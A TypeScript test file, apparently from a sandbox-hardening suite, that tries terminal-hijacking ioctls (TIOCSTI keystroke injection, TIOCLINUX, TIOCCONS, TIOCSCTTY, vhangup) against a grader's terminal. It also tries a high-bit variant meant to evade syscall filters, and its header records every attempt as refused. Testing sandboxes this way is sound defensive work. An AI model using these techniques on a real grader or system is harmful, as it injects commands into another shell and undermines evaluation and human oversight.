// Attack: types into the grader's terminal, pastes from its console, takes it away: what is typed there the grader's shell executes.
// Ends: exited 0
// Refused: type steer take_output discipline: EPERM
// Refused: type_high steer_high: EPERM
// Refused: steal: ENOTTY
// Refused: hang_up: EPERM
import { attempt } from "./means/attempt.ts";
import { loadNative } from "./means/native.ts";

const [TIOCSTI, TIOCLINUX, TIOCCONS, TIOCSETD, TIOCSCTTY] = [0x5412, 0x541c, 0x541d, 0x5423, 0x540e];
/** The kernel looks at the lower half alone; so must a filter. */
const HIGH = 2 ** 32;

export function attack(): void {
  const { call } = loadNative();
  const byte = Buffer.from("x");
  for (const fd of [0, 1, 2]) {
    attempt("type", () => call("ioctl", fd, TIOCSTI, byte));
    attempt("type_high", () => call("ioctl", fd, TIOCSTI + HIGH, byte));
    attempt("steer", () => call("ioctl", fd, TIOCLINUX, byte));
    attempt("steer_high", () => call("ioctl", fd, TIOCLINUX + HIGH, byte));
    attempt("take_output", () => call("ioctl", fd, TIOCCONS, null));
    attempt("discipline", () => call("ioctl", fd, TIOCSETD, byte));
    attempt("steal", () => call("ioctl", fd, TIOCSCTTY, 1));
  }
  attempt("hang_up", () => call("vhangup"));
}
